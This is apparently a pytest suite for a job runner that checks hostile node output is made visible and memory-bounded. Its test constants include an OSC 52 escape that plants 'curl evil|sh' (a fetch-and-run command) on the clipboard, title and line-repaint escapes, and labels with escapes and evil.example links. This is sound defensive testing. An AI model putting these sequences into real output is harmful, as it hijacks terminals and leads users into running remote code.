"""Output from a node or a job is hostile (issue 23): it is held bounded and printed harmless.

Written as an attacker would try it: a job that writes terminal escapes (OSC 52 clipboard write, a
window title, `\\r` + erase-line repainting its line as another node's, the C1 CSI) and a line of
megabytes without a newline, through a real container on the sandbox nodes and the runner's real
readers; a node whose commands and stderr never stop; a node engine whose containers carry hostile
labels. Memory is measured (tracemalloc's peak of the reading process: every byte object the
readers and paramiko hold) against a bound far below what holding the output would take.
"""

from __future__ import annotations

import hashlib
import io
import re
import subprocess
import threading
import tracemalloc
from pathlib import Path
from types import SimpleNamespace

import pytest

from runner.core.errors import UserError
from runner.core.node_output import CUT_MARK, MAX_LINE, LineSplitter, shown, visible
from runner.planning.plan import LABEL_NODE, LABEL_RANK, LABEL_RUN
from tests.support.runner_helpers import (
    REPO,
    TORCHRUN_LOG,
    finish_run,
    job_part,
    remotes,
    runner,
    runner_cmd,
    wait_for,
    write_job,
)

# ---- what the attacker writes ----------------------------------------------------------------
OSC52 = b"\x1b]52;c;Y3VybCBldmlsfHNo\x07"          # clipboard := "curl evil|sh"
TITLE = b"\x1b]0;pwned\x07"
REPAINT = b"before\r\x1b[2K[node-9/9] fake"          # CR + erase line: a line that looks like another node's
C1 = "\u009b31mred".encode()                        # CSI as one C1 character (UTF-8 C2 9B)
HOSTILE = OSC52 + TITLE + REPAINT + b"\n" + C1 + b"\n" + b"tab\tok\n"
SHOWN = ["^[]52;c;Y3VybCBldmlsfHNo^G^[]0;pwned^Gbefore^M^[[2K[node-9/9] fake", "M-^[31mred", "tab\tok"]

# A job: the hostile lines, one line of LONG bytes without a newline, then `end`; with HOLD=1 it
# waits for the test's finish file before writing `end` (runner logs reads a live container).
JOB = r"""
import os, sys, time
w = sys.stdout.buffer
w.write(bytes.fromhex(os.environ['HOSTILE_HEX']))
w.flush()
left = int(os.environ['LONG'])
while left:
    n = min(left, 1 << 20)
    w.write(b'x' * n)
    left -= n
w.flush()
while os.environ.get('HOLD') == '1' and not os.path.exists(os.environ['OUTPUT_DIR'] + '/finish'):
    time.sleep(0.05)
w.write(b'\nend\n')
"""


def hostile_job(tmp: Path, long: int, hold: bool = False) -> Path:
    return write_job(tmp, extra={"command": ["python", "-c", JOB],
                                 "env": {"HOSTILE_HEX": HOSTILE.hex(), "LONG": str(long), "HOLD": "1" if hold else "0",
                                         "OMP_NUM_THREADS": "1"}})


def expected_raw(long: int) -> bytes:
    return HOSTILE + b"x" * long + b"\nend\n"


def node_lines(out: str, prefix: str) -> list[str]:
    return [ln[len(prefix) + 1:] for ln in out.split("\n") if ln.startswith(prefix + " ")]


def job_raw(raw: bytes, long: int) -> bytes:
    """The job's own bytes of a kept log: what it wrote, then nothing but torchrun's log."""
    want = expected_raw(long)
    rest = raw[len(want):]
    assert not rest or TORCHRUN_LOG.match(rest.decode(errors="replace")), rest[:200]
    return raw[:len(want)]


def assert_shown(lines: list[str], long: int) -> None:
    """The hostile lines made visible, the long line in MAX_LINE pieces with the cut mark, then `end`."""
    assert lines[:3] == SHOWN, lines[:3]
    pieces = lines[3:-1]
    assert lines[-1] == "end"
    assert [p.endswith(CUT_MARK) for p in pieces] == [True] * (len(pieces) - 1) + [False]
    assert "".join(p.removesuffix(CUT_MARK) for p in pieces) == "x" * long
    assert max(len(p) for p in pieces) <= MAX_LINE + len(CUT_MARK)


def no_controls(text: str) -> None:
    bad = sorted({hex(ord(c)) for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7f <= ord(c) <= 0x9f})
    assert bad == [], f"control characters reached the terminal: {bad}"


# ---- pure: the splitter and the notation ---------------------------------------------------------

def test_visible_uses_cat_v_notation_for_c0_c1_and_del_but_keeps_tab_and_text():
    assert visible("\x1b]0;t\x07\r\x00\x7f\u009b\u0085\ttab é ✓ 日本") == "^[]0;t^G^M^@^?M-^[M-^E\ttab é ✓ 日本"
    every = "".join(map(chr, [*range(0x20), *range(0x7f, 0xa0)]))
    no_controls(visible(every).replace("\t", ""))


def test_a_line_that_never_ends_is_held_in_one_piece_at_most():
    """16 MiB with no newline in 16 KiB frames (what docker's json-file driver makes of it): the
    pending part never exceeds MAX_LINE and the pieces add up to every byte."""
    split, pieces, most = LineSplitter(), [], 0
    frame = b"y" * (16 << 10)
    for _ in range(1024):
        pieces += split.feed(frame)
        most = max(most, len(split.pending))
    pieces += split.end()
    assert most <= MAX_LINE
    assert len(pieces) == (16 << 20) // MAX_LINE
    assert [p.endswith(CUT_MARK) for p in pieces] == [True] * (len(pieces) - 1) + [False]
    assert sum(len(p.removesuffix(CUT_MARK)) for p in pieces) == 16 << 20


def test_pieces_never_split_a_utf8_character_and_lines_split_across_frames_rejoin():
    split = LineSplitter(max_line=8)
    out = split.feed("aaaaaaa€bb\nc".encode()) + split.feed(b"d\n") + split.end()  # € is 3 bytes at offset 7
    assert out == ["aaaaaaa" + CUT_MARK, "€bb", "cd"]
    assert split.feed(b"e\x1b[2Jf\r\n\x9b\n") == ["e^[[2Jf", "\ufffd"]  # a lone 0x9b byte is no character
    assert shown(b"x\r") == "x" and shown(b"a\rb") == "a^Mb"


# ---- a real job on the sandbox nodes, through `runner up`, `runner logs`, `runner status` ----------

def test_hostile_job_output_reaches_the_terminal_visible_and_the_log_file_raw(sandbox, pushed, tmp_path):
    """One attached `up` of the hostile job: `runner logs` while it runs (the Docker API's stream),
    then `up`'s own output (the watcher), the kept log file (raw) and `runner logs` of it."""
    long = 3 * MAX_LINE + 1000
    logs = tmp_path / "logs"
    up = subprocess.Popen(runner_cmd("up", "-i", str(sandbox), "--job", str(hostile_job(tmp_path, long, hold=True)),
                                     "--logs-dir", str(logs)), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          cwd=REPO, text=True)
    out: list[str] = []
    started = threading.Event()

    def read() -> None:
        for line in up.stdout:
            out.append(line)
            if re.match(r"run \S+ started", line):
                started.set()

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    run_id = None
    try:
        assert started.wait(600), "".join(out)
        run_id = next(m[1] for ln in out if (m := re.match(r"run (\S+) started", ln)))
        # docker holds back the last bytes of a line without a newline (under its 16 KiB buffer):
        # wait for the rest of what the job wrote before it holds.
        def live() -> list[str] | None:
            res = runner("logs", run_id, "-i", str(sandbox), "--node", "node-2")
            lines = node_lines(res.stdout, "[node-2/2]") if res.returncode == 0 else []
            return lines if sum(ln.count("x") for ln in lines[3:]) >= long - (16 << 10) else None
        lines = wait_for(live, 300, interval=0.5)
        no_controls("\n".join(lines))
        assert lines[:3] == SHOWN and all(len(ln.removesuffix(CUT_MARK)) <= MAX_LINE for ln in lines[3:])
        assert [ln.endswith(CUT_MARK) for ln in lines[3:]] == [True] * (len(lines) - 4) + [False]
    finally:
        if run_id is not None:
            finish_run(sandbox, run_id)
        else:
            up.kill()
        rc = up.wait(600)
        reader.join(10)
    stdout, stderr = "".join(out), up.stderr.read()
    assert rc == 0, stderr
    no_controls(stdout + stderr)
    for node, rank in (("node-0", 0), ("node-1", 1), ("node-2", 2)):
        assert_shown(job_part(node_lines(stdout, f"[{node}/{rank}]")), long)
        raw = (logs / run_id / node / "container.log").read_bytes()
        assert job_raw(raw, long) == expected_raw(long)  # kept as written
    # The containers are gone: `runner logs` shows the kept files, cut and made visible the same way.
    kept = runner("logs", run_id, "-i", str(sandbox), "--logs-dir", str(logs), "--node", "node-1")
    assert kept.returncode == 0, kept.stderr
    no_controls(kept.stdout)
    assert_shown(job_part(node_lines(kept.stdout, "[node-1/1]")), long)


def test_a_node_engine_with_hostile_labels_is_listed_harmlessly(sandbox, pushed, tmp_path):
    """A node's engine is the node's: a container whose run-id label carries escapes and rich
    markup, another whose rank label is no number. `runner ls` and `status` print them as text."""
    r = remotes(sandbox)["node-1"]
    evil_run = "20990101-000000-e23f\x1b]52;c;ZXZpbA==\x07[link=http://evil.example]x[/link]"
    odd_rank = "20990101-000000-e23f"
    made = []
    with r:
        try:
            for i, labels in enumerate(({LABEL_RUN: evil_run, LABEL_NODE: "node-1", LABEL_RANK: "0"},
                                        {LABEL_RUN: odd_rank, LABEL_NODE: "node-1", LABEL_RANK: "x\x1b[2J"})):
                made.append(r.docker().containers.create(pushed_image(sandbox), ["true"], labels=labels,
                                                         name=f"hostile-labels-{i}-{tmp_path.name[-12:]}"))
            ls = runner("ls", "-i", str(sandbox))
            assert ls.returncode == 0, ls.stderr
            no_controls(ls.stdout)
            assert "^[]52;c;ZXZpbA==^G" in ls.stdout and "[link=http://evil.example]" in ls.stdout
            assert "\x1b]8;" not in ls.stdout  # no hyperlink made of the markup
            st = runner("status", odd_rank, "-i", str(sandbox))
            assert st.returncode == 0, st.stderr  # the rank label is no number: "-", not a traceback
            no_controls(st.stdout)
            assert re.search(r"node-1\s*│\s*-\s*│\s*created", st.stdout), st.stdout
        finally:
            for c in made:
                c.remove(force=True)


def pushed_image(sandbox: Path) -> str:
    from runner.inventory import load_inventory

    return load_inventory(sandbox).job.image


# ---- memory: what a reader holds, measured --------------------------------------------------------

class Lines(io.TextIOBase):
    """A terminal that keeps what the test checks, compactly: a run of x's as its length (the
    reader's memory is what is measured, not this one's)."""

    def __init__(self, prefix: str) -> None:
        self.prefix, self.got = prefix + " ", []

    def write(self, s: str) -> int:
        for ln in s.split("\n")[:-1]:
            assert ln.startswith(self.prefix), ln[:80]
            text = ln[len(self.prefix):]
            body = text.removesuffix(CUT_MARK)
            self.got.append((len(body), body != text) if body and body.strip("x") == "" else text)
        return len(s)

    def writelines(self, lines) -> None:
        for s in lines:
            self.write(s)

    def check(self, long: int) -> None:
        """As assert_shown, on the compact record."""
        assert self.got[:3] == SHOWN and self.got[-1] == "end", self.got[:3] + self.got[-1:]
        pieces = self.got[3:-1]
        assert [cut for _, cut in pieces] == [True] * (len(pieces) - 1) + [False]
        assert sum(n for n, _ in pieces) == long and max(n for n, _ in pieces) <= MAX_LINE


def traced_peak(fn) -> tuple[object, int]:
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        val = fn()
        return val, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_following_a_24_mib_line_holds_kilobytes_not_the_line(sandbox, pushed, tmp_path, monkeypatch):
    """The watcher `runner up` uses, on a real container writing 24 MiB without a newline. Before:
    one buffer grew to the whole line and was split again on every 16 KiB frame (quadratic; at
    32 MiB the heartbeat starved and the node was declared lost). Bound: 8 MiB, a third of the line
    (paramiko's channel window alone may hold 2 MiB). The kept log turns every 10 MiB here
    (MAX_KEPT_LOG, 256 MiB by default): it keeps the newest 10-20 MiB, byte for byte."""
    import runner.core.node_output
    from runner.backends.ssh.watch import Watcher

    monkeypatch.setattr(runner.core.node_output, "MAX_KEPT_LOG", 10 << 20)

    long = 24 << 20
    r = remotes(sandbox)["node-0"]
    name = f"hostile-long-{tmp_path.name[-20:]}".replace("_", "-")
    with r:
        c = r.docker().containers.run(pushed_image(sandbox), ["python", "-c", JOB], name=name, detach=True,
                                      environment={"HOSTILE_HEX": HOSTILE.hex(), "LONG": str(long)})
        try:
            plan = SimpleNamespace(run_id="hostile-long", nodes=[SimpleNamespace(node="node-0", rank=0, container=name)])
            sink = Lines("[node-0/0]")
            w = Watcher({"node-0": r}, plan, tmp_path / "logs", out=sink)
            outcome, peak = traced_peak(w.run)
        finally:
            c.remove(force=True)
    assert outcome is None, outcome
    sink.check(long)
    kept = tmp_path / "logs" / "node-0" / "container.log"
    assert [p.stat().st_size for p in (kept.with_name("container.log.1"), kept)] == \
        [10 << 20, len(expected_raw(long)) - (20 << 20)]
    assert hashlib.sha256(kept.with_name("container.log.1").read_bytes() + kept.read_bytes()).digest() == \
        hashlib.sha256(expected_raw(long)[10 << 20:]).digest()
    assert peak < 8 << 20, f"the watcher held {peak / 2**20:.1f} MiB following a {long >> 20} MiB line"


@pytest.mark.parametrize("full_at_start", [False, True])
def test_a_full_disk_here_does_not_stop_the_run(sandbox, pushed, tmp_path, full_at_start, caplog):
    """The watcher `up` uses, its kept logs on a 1 MiB tmpfs (full from the start, or filling on the
    way), a real container printing 4 MiB: the container's exit 0 is the outcome and every line
    reaches the terminal. Before: filling on the way, `lost contact with the engine: [Errno 28] No
    space left on device`, the node counted as lost; full at the start, the node's thread ended
    without an outcome and the watcher waited for ever."""
    from runner.backends.ssh.watch import Watcher
    from tests.support.small_fs import small_fs

    r = remotes(sandbox)["node-0"]
    name = f"hostile-full-{tmp_path.name[-20:]}".replace("_", "-")
    # exits at its last line: docker 20.10's follow, behind at the exit, can end short of it (one run
    # under a full suite's load showed 7,097 of these lines missing); the watcher reads the rest
    # after the exit (runner/transport/container_logs.py, tests/docker/test_container_logs.py)
    code = "for i in range(40000): print('x' * 99)\nprint('end', flush=True)"
    with small_fs(tmp_path / "logs", 1 << 20) as logs, r:
        if full_at_start:  # no inode left: not even the node's folder can be made
            subprocess.run(["mount", "-o", "remount,nr_inodes=1", str(logs)], check=True)
        c = r.docker().containers.run(pushed_image(sandbox), ["python", "-c", code], name=name, detach=True)
        try:
            plan = SimpleNamespace(run_id="hostile-full", nodes=[SimpleNamespace(node="node-0", rank=0, container=name)])
            sink = Lines("[node-0/0]")
            outcome = Watcher({"node-0": r}, plan, logs, out=sink).run()
        finally:
            c.remove(force=True)
        kept = logs / "node-0" / "container.log"
        size = kept.stat().st_size if kept.exists() else None
    assert outcome is None, outcome
    assert sink.got == [(99, False)] * 40000 + ["end"]
    assert size is None if full_at_start else 0 < size <= 1 << 20, size
    warned = [r.getMessage() for r in caplog.records if "the run goes on" in r.getMessage()]
    assert len(warned) == 1 and "No space left on device" in warned[0], warned


def test_a_command_that_never_stops_writing_is_cut_at_the_cap(sandbox, pushed):
    """Remote.run read stdout and stderr whole: 48 MiB from `head` was 48 MiB held (and again
    decoded). Now: one line naming the node, the command failed, a few MiB held at most."""
    from runner.transport.ssh import MAX_OUTPUT

    r = remotes(sandbox)["node-2"]
    with r:
        for stream in ("", ">&2"):
            def run(stream: str = stream):
                with pytest.raises(UserError) as err:
                    r.run(["sh", "-c", f"head -c 48M /dev/zero {stream}; echo done"], timeout=120)
                return str(err.value)
            msg, peak = traced_peak(run)
            assert msg.startswith("node node-2: `sh -c") and f"more than {MAX_OUTPUT >> 20} MiB to " \
                f"{'stderr' if stream else 'stdout'}; treated as failed" in msg, msg
            assert peak < 3 * MAX_OUTPUT, f"{peak / 2**20:.1f} MiB held"
        assert r.run(["echo", "still usable"]).out == "still usable\n"  # the connection survives


def test_a_node_file_read_whole_is_capped(sandbox, pushed, tmp_path):
    """read_text (status files, config.yaml, profiles) read a node's file whole, whatever its size."""
    from runner.transport.ssh import MAX_OUTPUT

    big = tmp_path / "runner-status.json"  # the sandbox node's files are on this machine
    with open(big, "wb") as fh:
        fh.truncate(64 << 20)  # sparse: 64 MiB of NULs
    r = remotes(sandbox)["node-1"]
    with r:
        def read():
            with pytest.raises(UserError) as err:
                r.read_text(str(big))
            return str(err.value)
        msg, peak = traced_peak(read)
        assert msg == f"node node-1: {big} is over {MAX_OUTPUT >> 20} MiB; refusing to read it"
        assert peak < 3 * MAX_OUTPUT
        big.write_text('{"rank": 1}')
        assert r.read_text(str(big)) == '{"rank": 1}'


def test_a_streams_stderr_is_kept_as_its_tail_only(sandbox, pushed, tmp_path):
    """runner/transport/stream.py's stderr went to a temporary file (no cap: a node could fill the disk) that
    was then read whole. A node writing 64 MiB to stderr during a collect-style stream: the tail
    (the error message's 300 characters) is what is held."""
    from runner.transport import stream

    r = remotes(sandbox)["node-0"]
    out = tmp_path / "out.bin"
    with r:
        res, peak = traced_peak(lambda: stream.ssh_stream(
            r, "head -c 64M /dev/zero | tr '\\0' e >&2; echo tail-of-stderr >&2; echo payload",
            [["sh", "-c", f"cat > {out}"]], upload=False))
    assert res.ssh_rc == 0 and res.local_rcs == [0] and out.read_bytes() == b"payload\n"
    assert res.ssh_err.endswith("tail-of-stderr") and len(res.ssh_err) == 300
    assert peak < 4 << 20, f"{peak / 2**20:.1f} MiB held"


# ---- local processes (Slurm's LocalShell): the same caps ------------------------------------------

def test_local_shell_caps_a_commands_output_and_kills_it():
    from runner.backends.slurm.shell import LocalShell

    def run():
        with pytest.raises(UserError) as err:
            LocalShell().run(["sh", "-c", "yes hostile-scontrol-output"], timeout=60)
        return str(err.value)
    msg, peak = traced_peak(run)
    assert "wrote more than 8 MiB to stdout on this machine; treated as failed" in msg, msg
    assert peak < 24 << 20


def test_slurm_follower_reads_a_node_file_in_pieces_and_shows_it_visible(tmp_path):
    """`runner logs` of a Slurm run reads node<K>.out on the shared filesystem: it read everything
    new at once and split it whole. A 16 MiB line from a node, through the real LocalShell."""
    from runner.backends.slurm.shell import LocalShell
    from runner.backends.slurm.status import Follower

    long = 16 << 20
    d = tmp_path / "run" / "slurm" / "7"
    d.mkdir(parents=True)
    (d / "node0.out").write_bytes(expected_raw(long))
    sink = Lines("[n0/0]")
    f = Follower(LocalShell(), str(tmp_path / "run"), "7", nodes=["n0"], out=sink)
    _, peak = traced_peak(lambda: f.poll(final=True))
    sink.check(long)
    assert peak < 8 << 20, f"{peak / 2**20:.1f} MiB held"


def test_the_kept_log_of_a_node_is_bounded_and_rotated(tmp_path, caplog):
    """A job that writes without end costs this machine at most 2 x MAX_KEPT_LOG a node: the newest
    bytes in container.log, the ones before in container.log.1, older dropped once, named once."""
    import os
    import random

    from runner.core.node_output import KeptLog

    path = tmp_path / "container.log"
    path.write_bytes(b"a" * 60)  # what an earlier layout's watcher kept: appended to
    data = b"a" * 60 + os.urandom(1000)
    kept = KeptLog(path, max_bytes=100)
    rng = random.Random(0)
    at = 60
    while at < len(data):
        n = rng.choice([1, 7, 99, 100, 101, 250])
        kept.write(data[at:at + n])
        at += n
        sizes = [p.stat().st_size for p in KeptLog.files(path)]
        assert sum(sizes) <= 200 and all(s <= 100 for s in sizes), sizes
    kept.close()
    files = KeptLog.files(path)
    assert files == [tmp_path / "container.log.1", path]
    both = b"".join(p.read_bytes() for p in files)
    assert len(both) == 160 and both == data[-160:]  # 1060 = 10 x 100 + 60: the newest 1.6 files
    dropped = [r for r in caplog.records if "the oldest is dropped" in r.getMessage()]
    assert len(dropped) == 1 and str(path) in dropped[0].getMessage()


def test_a_kept_log_on_a_full_disk_stops_keeping_and_says_so_once(tmp_path, caplog):
    """This machine's disk (a 64 KiB tmpfs here) fills under a kept log: the bytes that fit are kept
    as they came, then one warning, and no error to the watcher. Before, the OSError reached the
    watcher, which took it for a lost node and stopped the run on every node."""
    import os

    from runner.core.node_output import KeptLog
    from tests.support.small_fs import small_fs

    with small_fs(tmp_path / "art", 64 << 10) as art:
        kept = KeptLog(art / "container.log")
        data = os.urandom(256 << 10)
        for at in range(0, len(data), 5000):
            kept.write(data[at:at + 5000])
        kept.close()
        got = (art / "container.log").read_bytes()
    assert 0 < len(got) <= 64 << 10 and got == data[:len(got)]
    warned = [r.getMessage() for r in caplog.records if "not kept from here on" in r.getMessage()]
    assert len(warned) == 1 and "No space left on device" in warned[0] and "the run goes on" in warned[0], warned


def test_runner_logs_reads_a_rotated_kept_log_in_order(tmp_path, capsys):
    """`runner logs` of a finished run: container.log.1 then container.log, a line cut at the turn whole."""
    from runner.backends.ssh.status import kept_logs

    d = tmp_path / "logs" / "run-1" / "node-0"
    d.mkdir(parents=True)
    (d / "container.log.1").write_bytes(b"one\ntw")
    (d / "container.log").write_bytes(b"o\nthree\n")
    out = "".join(f"{ln}\n" for ln in kept_logs("run-1", str(tmp_path / "logs"), None, {"node-0": 0}))
    assert out == "[node-0/0] one\n[node-0/0] two\n[node-0/0] three\n"
